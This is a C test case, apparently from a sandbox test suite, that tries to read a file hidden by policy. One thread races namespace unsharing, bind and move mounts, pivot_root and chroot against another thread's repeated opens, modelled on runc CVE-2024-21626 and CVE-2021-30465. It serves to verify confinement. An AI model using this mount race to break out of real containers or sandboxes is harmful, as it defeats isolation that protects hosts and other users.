// Route: mounts, unmounts and changes the root while another thread opens a hidden file
// Known from: CVE-2024-21626, CVE-2021-30465 (runc): mounts that change between a check and a use
// Grants: {rules: ['hide $WORK/way/held']}
// Refused: ENOENT
// Twin: opens its own file beside it
// Unconfined: works
// Worlds: walls
#include "attempt.h"
#include <pthread.h>
#include <sched.h>
#include <sys/mount.h>

static volatile int over, turns;
static char *way, *other;

static void *exchange(void *unused) {
  unshare(CLONE_FS);
  for (; !over; turns++) {
    unshare(turns % 2 ? CLONE_NEWNS : CLONE_NEWUSER | CLONE_NEWNS);
    mount(way, other, NULL, MS_BIND | MS_REC, NULL);
    mount(other, way, NULL, MS_MOVE, NULL);
    mount("none", way, "tmpfs", 0, NULL);
    int tree = (int)syscall(SYS_open_tree, AT_FDCWD, way, 1 /* OPEN_TREE_CLONE */);
    syscall(SYS_move_mount, tree == -1 ? AT_FDCWD : tree, tree == -1 ? way : "", AT_FDCWD, other, tree == -1 ? 0 : 4);
    syscall(SYS_pivot_root, other, way);
    chroot(other);
    umount2(way, MNT_DETACH);
    if (tree != -1) close(tree);
  }
  return unused;
}

int main(void) {
  pthread_t thread;
  int found = -1;
  char byte, *held = at("WORK", "/way/held"), *moved = at("WORK", "/other/held");
  way = at("WORK", "/way");
  other = at("WORK", "/other");
  mkdir(other, 0755);
  /* Without walls, the mounts of this program are its own. */
  if (unshare(CLONE_NEWNS) == 0) mount("none", "/", NULL, MS_REC | MS_PRIVATE, NULL);
  pthread_create(&thread, NULL, exchange, NULL);
  for (int i = 0; (i < 1000 || turns < 100) && found == -1; i++) {
    int descriptor = open(i % 2 ? held : moved, O_RDONLY);
    if (descriptor != -1 && pread(descriptor, &byte, 1, 0) == 1) found = descriptor;
    else if (descriptor != -1) close(descriptor);
  }
  over = 1;
  pthread_join(thread, NULL);
  while (umount2(way, MNT_DETACH) == 0) continue;
  attempt(found == -1 ? open(held, O_RDONLY) : found);
  twin(open(at("WORK", "/way/mine"), O_WRONLY | O_CREAT, 0644));
}
